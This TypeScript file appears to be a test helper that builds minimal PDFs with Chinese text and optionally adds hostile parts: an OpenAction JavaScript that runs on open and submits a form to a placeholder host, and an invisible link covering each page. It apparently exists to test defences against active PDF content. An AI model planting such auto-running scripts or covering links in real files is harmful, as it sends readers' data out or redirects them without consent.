const LINE = 26
const TOP = 770

/** What a PDF may bring along although nobody wants it. */
const HOSTILE = [
  "/OpenAction<</S/JavaScript/JS(app.alert('opened');this.submitForm('http://elsewhere.example/'))>>",
  '[<</Type/Annot/Subtype/Link/Rect[60 60 540 800]/A<</S/URI/URI(http://elsewhere.example/)>>>>]',
] as const

const hex = (text: string) => Buffer.from(text, 'utf16le').swap16().toString('hex')

function content(lines: string[]): string {
  const shown = lines.map((line, i) => {
    const size = i === 0 ? 18 : 12
    return `BT /F1 ${size} Tf 72 ${TOP - i * LINE} Td <${hex(line)}> Tj ET`
  })
  return shown.join('\n')
}

/**
 * A PDF of these pages, each a title and lines of text in a Chinese font that is not embedded, as long as wanted.
 *
 * @param hostile with a script that runs when it is opened, and a link over every page
 */
export function pdfOf(pages: string[][], { bytes = 0, hostile = false } = {}): Uint8Array {
  const first = 7
  const kids = pages.map((_, i) => `${first + 2 * i} 0 R`)
  const bodies = [
    `<</Type/Catalog/Pages 2 0 R${hostile ? HOSTILE[0] : ''}>>`,
    `<</Type/Pages/Kids[${kids.join(' ')}]/Count ${pages.length}>>`,
    '<</Type/Font/Subtype/Type0/BaseFont/STSong-Light/Encoding/UniGB-UCS2-H/DescendantFonts[4 0 R]>>',
    '<</Type/Font/Subtype/CIDFontType0/BaseFont/STSong-Light/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>/DW 1000/FontDescriptor 5 0 R>>',
    '<</Type/FontDescriptor/FontName/STSong-Light/Flags 6/FontBBox[-25 -254 1000 880]/ItalicAngle 0/Ascent 880/Descent -120/CapHeight 880/StemV 93>>',
    stream('x'.repeat(Math.max(0, bytes - 2000 - pages.length * 400))),
    ...pages.flatMap((lines, i) => [
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents ${first + 2 * i + 1} 0 R/Resources<</Font<</F1 3 0 R>>>>${hostile ? `/Annots${HOSTILE[1]}` : ''}>>`,
      stream(content(lines)),
    ]),
  ]
  return Buffer.from(withTable(bodies), 'latin1')
}

/** A valid PDF of one page with a title, as long as wanted. */
export const pdf = (title: string, bytes = 0) => pdfOf([[title]], { bytes })

const stream = (text: string) => `<</Length ${text.length}>>stream\n${text}\nendstream`

function withTable(bodies: string[]): string {
  let text = '%PDF-1.7\n'
  const offsets = bodies.map((body, index) => {
    const offset = text.length
    text += `${index + 1} 0 obj${body}endobj\n`
    return offset
  })
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = bodies.length + 1
  return `${text}xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer<</Size ${size}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`
}
